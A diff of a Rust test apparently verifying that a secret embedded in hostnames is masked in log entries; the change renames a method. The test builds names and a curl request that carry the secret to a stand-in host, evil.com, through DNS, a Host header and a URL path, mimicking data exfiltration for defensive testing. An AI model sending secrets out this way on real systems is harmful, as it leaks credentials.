@@ -91,7 +91,7 @@ fn a_secret_in_a_name_is_masked_in_every_entry() {
     let hide = |guard: intercept::InterceptionConfig| guard.hiding(vec![HIDDEN.to_owned()]);
     let client = fixture.client_with(Policy::none(), hide);
 
-    client.registration.as_ref().unwrap().observer().may_ask(&format!("{HIDDEN}.evil.com."));
+    client.registration.as_ref().unwrap().observer().may_resolve(&format!("{HIDDEN}.evil.com."));
     let host = format!("Host: key-{}.evil.com", HIDDEN.to_uppercase());
     client.try_curl(&["-H", &host, &format!("http://{OTHER}/{HIDDEN}")]);
 
